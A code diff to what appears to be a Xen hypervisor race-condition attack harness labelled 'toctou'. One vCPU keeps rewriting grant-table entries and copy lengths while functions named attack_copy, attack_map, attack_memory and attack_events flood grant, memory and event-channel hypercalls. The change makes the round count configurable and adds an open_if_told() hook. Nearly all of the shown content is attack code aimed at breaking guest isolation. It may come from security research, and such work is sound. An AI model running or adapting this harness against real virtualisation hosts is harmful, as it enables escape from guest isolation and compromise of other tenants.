@@ -6,7 +6,6 @@
 
 const char claim_name[] = "toctou";
 
-#define ROUNDS 15000u
 #define REF 8u
 #define AREA (1ull << 39)
 #define P 1ull
@@ -15,6 +14,7 @@ const char claim_name[] = "toctou";
 static u64 top[512] __attribute__((aligned(4096)));
 static u64 directory[3][512] __attribute__((aligned(4096)));
 static volatile u32 phase, ready;
+static u32 rounds;
 static volatile struct gnttab_copy *copy = (void *)spare[8];
 static volatile u64 *extents = (void *)spare[9];
 static volatile u32 *ports = (void *)spare[10];
@@ -22,10 +22,12 @@ static volatile u32 *ports = (void *)spare[10];
 /* The other vCPU: nothing stays what it is. */
 void ap_main(u32 index)
 {
+	u16 self = (u16)own_domid(); /* an exit: the only one */
 	u32 i;
 
 	(void)index;
 	load_tables();
+	open_if_told();
 	ready = 1;
 	for (i = 0;; i++) {
 		copy->len = (i & 1) ? 0xffff : 16;
@@ -41,7 +43,7 @@ void ap_main(u32 index)
 		table[REF].flags = (i & 1) ? 0 : GTF_permit_access;
 		table[REF].frame = (u32)((i & 2) ? random64()
 						 : gfn_of(spare[20]));
-		table[REF].domid = (u16)((i & 4) ? i : own_domid());
+		table[REF].domid = (u16)((i & 4) ? i : self);
 		table[REF].flags = (u16)i;
 		__asm__ volatile("pause");
 	}
@@ -75,7 +77,7 @@ static void attack_copy(void)
 	u32 i;
 
 	memset(spare[19], 0x77, 5 * PAGE);
-	for (i = 0; i < ROUNDS; i++) {
+	for (i = 0; i < rounds; i++) {
 		copy->flags = (i & 1) ? GNTCOPY_source_gref : 0;
 		copy->source.u.gmfn = (i & 1) ? REF : gfn_of(spare[20]);
 		copy->source.offset = 0;
@@ -90,7 +92,7 @@ static void attack_map(void)
 {
 	u32 i, handle, mapped = 0;
 
-	for (i = 0; i < ROUNDS; i++) {
+	for (i = 0; i < rounds; i++) {
 		if (map_from(DOMID_SELF, REF, GNTMAP_host_map, HOLE + 100,
 			     &handle) == GNTST_okay) {
 			mapped += 1;
@@ -110,7 +112,7 @@ static void attack_memory(void)
 	u32 i;
 
 	set_xen_guest_handle(r.extent_start, (xen_pfn_t *)spare[9]);
-	for (i = 0; i < ROUNDS / 20; i++) {
+	for (i = 0; i < rounds / 20; i++) {
 		(void)memory_call(XENMEM_populate_physmap, &r);
 		(void)memory_call(XENMEM_decrease_reservation, &r);
 		__asm__ volatile("pause");
@@ -124,7 +126,7 @@ static void attack_events(void)
 {
 	u32 own = bind_ipi(0), i;
 
-	for (i = 0; i < ROUNDS; i++) {
+	for (i = 0; i < rounds; i++) {
 		(void)event_call(EVTCHNOP_send, (void *)spare[10]);
 		(void)event_call(EVTCHNOP_unmask, (void *)spare[10]);
 		(void)event_call(EVTCHNOP_send, (void *)AREA);
@@ -140,6 +142,8 @@ void claim(void)
 	long held = frames_held();
 
 	start_check();
+	open_if_told();
+	rounds = (u32)option("rounds", 15000);
 	grants_setup();
 	held = frames_held();
 	tables_build();
